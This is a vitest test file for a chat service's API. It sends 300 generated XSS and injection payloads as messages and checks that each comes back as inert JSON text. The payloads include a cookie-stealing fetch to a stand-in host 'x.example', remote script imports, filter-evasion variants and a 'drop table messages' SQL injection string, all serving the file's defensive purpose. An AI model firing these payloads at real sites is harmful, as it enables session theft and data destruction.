import { randomUUID } from 'node:crypto';
import { expect, test } from 'vitest';
import { getChat, getChats, sendMessage } from '#contract/chats';
import { startTestServer } from '../testing/start-test-server.ts';

const { as, signUpMember, db } = await startTestServer();

const wrappings = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `</script><script>${code}</script>`,
  (code: string) => `<img src=x onerror="${code}">`,
  (code: string) => `<svg/onload=${code}>`,
  (code: string) => `"><body onload=${code}>`,
  (code: string) => `javascript:${code}`,
  (code: string) => `[click](javascript:${code})`,
  (code: string) => `<a href="data:text/html,<script>${code}</script>">x</a>`,
  (code: string) => `\${${code}}{{${code}}}<%= ${code} %>`,
  (code: string) => `<iframe srcdoc='<script>${code}</script>'>`,
  (code: string) => `<!--><script>${code}</script-->`,
  (code: string) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code: string) => `'; drop table messages; -- ${code}`,
  (code: string) => `__proto__[x]=${code}`,
  (code: string) => `%3Cscript%3E${code}%3C/script%3E`,
];
const codes = [
  ...['alert(1)', 'alert`1`', 'fetch("//x.example/"+document.cookie)', 'eval(atob("YWxlcnQoMSk="))'],
  ...[
    'import("//x.example")',
    'self["al"+"ert"](1)',
    'top.location="//x.example"',
    '(()=>{}).constructor("alert(1)")()',
  ],
  ...['document.write(1)', 'new Function("alert(1)")()', 'setTimeout("alert(1)")', 'window.name'],
  ...['\\u0061lert(1)', 'alert(/&lt;&#60;/)', 'with(document)body.innerHTML=1', 'onerror=alert;throw 1'],
  ...['a\u2028lert(1)', 'confirm?.(1)', '[].find(alert)', 'location.hash.slice(1)'],
];

test('300 script payloads are stored and returned as text and change nothing else', async () => {
  const payloads = wrappings.flatMap(wrap => codes.map(wrap));
  expect(new Set(payloads).size).toBe(300);
  const anton = await signUpMember({ credits: 300 });
  const bram = await signUpMember();
  for (const text of payloads)
    await as(anton).call(sendMessage, { body: { to: bram.profileId, client_id: randomUUID(), text } });
  const read: string[] = [];
  for (let after = 0; after < 300; ) {
    const answer = await as(bram).send(getChat, { query: { profile: anton.profileId, after } });
    expect(answer.headers['content-type']).toMatch(/^application\/json/);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    const { messages } = answer.body as { messages: { text: string; seq: number }[] };
    read.push(...messages.map(({ text }) => text));
    after = messages.at(-1)?.seq ?? 300;
  }
  expect(read).toEqual(payloads.map(text => text.trim()));
  expect((await as(bram).call(getChats)).chats[0]?.conversation.last_message.text).toBe(payloads.at(-1));
  expect(await db.selectFrom('messages').select('id').execute()).toHaveLength(300);
});
